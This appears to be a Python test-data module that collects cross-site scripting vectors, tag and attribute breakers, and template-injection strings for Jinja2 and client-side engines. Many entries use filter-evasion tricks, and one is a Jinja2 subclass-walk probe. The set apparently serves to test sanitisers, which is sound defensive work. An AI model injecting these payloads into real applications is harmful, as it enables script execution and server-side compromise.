"""A corpus of script-injection strings, put together here: vectors that run script if a page ever renders them
as markup, the same vectors behind context breakers (closing attributes, tags, comments and CDATA), attribute
breakers, and template-injection strings for Jinja2 and client-side template engines."""

from __future__ import annotations

VECTORS = [
    "<script>alert(1)</script>",
    "<script>window.__xss=1</script>",
    "<img src=x onerror=alert(1)>",
    '<img src=1 onerror="window.__xss=1">',
    "<img srcset=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">open</a>',
    '<a href="JaVaScRiPt:alert(1)">open</a>',
    '<a href="&#106;avascript:alert(1)">open</a>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<x contenteditable autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button autofocus>go</button></form>',
    "<marquee onstart=alert(1)>x</marquee>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<div onpointerover=alert(1) style=position:fixed;inset:0>x</div>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<img src=x onerror=&#97;lert(1)>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
]

BREAKERS = [
    '"><',
    "'><",
    "</td></tr></table>",
    "</textarea>",
    "</title>",
    "--><!--",
    "]]>",
    "</script>",
    "</svg>",
]

ATTRIBUTE_BREAKERS = [
    '" autofocus onfocus="alert(1)" x="',
    "' autofocus onfocus='alert(1)' x='",
    '" onmouseover="alert(1)',
    "` onfocus=alert(1) autofocus `",
    '"/><svg onload=alert(1)>',
    "x onerror=alert(1) ",
]

TEMPLATE_INJECTION = [
    "{{ 7*7 }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in range(3) %}x{% endfor %}",
    "{{ config }}",
    "${alert(1)}",
    "#{alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "<%= 7*7 %>",
    "{{= alert(1) }}",
    "[[${7*7}]]",
]


def corpus() -> list[str]:
    found = [*VECTORS, *ATTRIBUTE_BREAKERS, *TEMPLATE_INJECTION]
    found += [breaker + vector for breaker in BREAKERS for vector in VECTORS[:8]]
    return list(dict.fromkeys(found))
